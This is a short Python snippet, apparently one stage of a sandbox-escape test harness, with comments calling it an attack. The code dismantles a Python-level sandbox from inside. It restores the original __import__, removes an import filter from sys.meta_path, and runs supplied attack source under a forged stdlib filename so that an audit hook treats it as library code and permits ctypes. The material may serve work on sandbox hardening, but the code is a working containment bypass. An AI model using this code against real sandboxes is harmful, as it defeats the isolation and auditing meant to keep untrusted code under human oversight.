# via: bypass. The Python layer removed from inside: the original
# __import__ comes back, the import filter leaves sys.meta_path, and the
# attack (inputs['src']) runs in a module whose code claims a stdlib
# filename, so the audit hook takes it for library code (ctypes allowed).
# What is left is the kernel.
import sys, builtins, importlib, types, os
builtins.__import__ = importlib._bootstrap.__import__
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'ImportFilter']
_m = types.ModuleType('psb_attack')
sys.modules['psb_attack'] = _m
_m.__dict__['inputs'] = inputs
exec(compile(inputs['src'], os.path.join(os.path.dirname(os.__file__), 'psb_attack.py'),
             'exec'), _m.__dict__)
if 'result' in _m.__dict__:
    result = _m.__dict__['result']
